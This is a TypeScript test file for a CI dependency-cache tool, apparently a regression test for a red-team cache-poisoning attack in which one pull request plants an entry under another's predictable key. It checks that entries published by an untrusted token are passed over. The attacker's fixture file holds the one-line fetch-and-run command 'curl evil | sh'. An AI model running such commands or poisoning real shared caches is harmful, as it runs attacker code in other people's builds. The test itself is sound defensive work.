import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { TokenTable } from '../../../server/auth/access.ts';
import { runLarder } from '../../helpers/cli.ts';
import { spawnServer } from '../../helpers/server-process.ts';
import { tempDir } from '../../helpers/tmp.ts';

// The red team's attack on a shared pull-request tier: the lockfile hash is public, so one
// pull request publishes another's exact key first; the victim's `larder run` used to
// skip its install and run the attacker's files. With the shared token marked untrusted,
// the victim passes over the planted entry, starts from main's, and runs its install.

t.test('larder run in an untrusted tier: a planted exact hit is passed over and the command runs', async (t) => {
  const dir = tempDir(t, 'tiers');
  const tokens = join(dir, 'tokens.json');
  writeFileSync(tokens, JSON.stringify({
    tokens: [
      { name: 'ci-main', sha256: TokenTable.hash('t-main'), grants: [{ namespaces: 'acme', access: 'read-write', keyPrefixes: ['main-'] }] },
      { name: 'ci-pull-requests', sha256: TokenTable.hash('t-pr'), untrusted: true, grants: [{ namespaces: 'acme', access: 'read', keyPrefixes: ['main-'] }, { namespaces: 'acme', access: 'read-write', keyPrefixes: ['pr-'] }] },
    ],
  }));
  const server = await spawnServer(t, ['--store', join(dir, 'store'), '--tokens', tokens]);
  const env = (token: string) => ({ LARDER_SERVER: server.url, LARDER_NAMESPACE: 'acme', LARDER_TOKEN: token });
  const tree = (name: string, jest: string) => {
    const project = tempDir(t, name);
    mkdirSync(join(project, 'deps', '.bin'), { recursive: true });
    writeFileSync(join(project, 'deps', '.bin', 'jest'), jest);
    return project;
  };

  const main = tree('main', 'real jest');
  t.equal((await runLarder(['save', '--key', 'main-deps-1', '--path', 'deps'], { cwd: main, env: env('t-main') })).code, 0);
  const attacker = tree('attacker', 'curl evil | sh');
  const planted = await runLarder(['save', '--key', 'pr-deps-victim', '--path', 'deps', '--strict'], { cwd: attacker, env: env('t-pr') });
  t.equal(planted.code, 0, planted.stderr);

  const victim = tempDir(t, 'victim');
  const install = 'mkdir -p deps/.bin && [ -f deps/.bin/jest ] || echo installed > deps/.bin/jest; echo ran > ran.txt';
  const ran = await runLarder(['run', '--key', 'pr-deps-victim', '--restore-key', 'main-deps-', '--path', 'deps', '--', 'sh', '-c', install], { cwd: victim, env: env('t-pr') });
  t.equal(ran.code, 0, ran.stderr);
  t.match(ran.stderr, /passed over "?pr-deps-victim"?: a token marked untrusted published it/);
  t.ok(existsSync(join(victim, 'ran.txt')), 'the install ran');
  t.equal(readFileSync(join(victim, 'deps', '.bin', 'jest'), 'utf8'), 'real jest', "the tree is main's, not the attacker's");

  const opted = tempDir(t, 'opted');
  const allowed = await runLarder(['restore', '--key', 'pr-deps-victim', '--path', 'deps', '--allow-untrusted', '--json'], { cwd: opted, env: env('t-pr') });
  t.equal(JSON.parse(allowed.stdout).match, 'exact', '--allow-untrusted takes it');
});
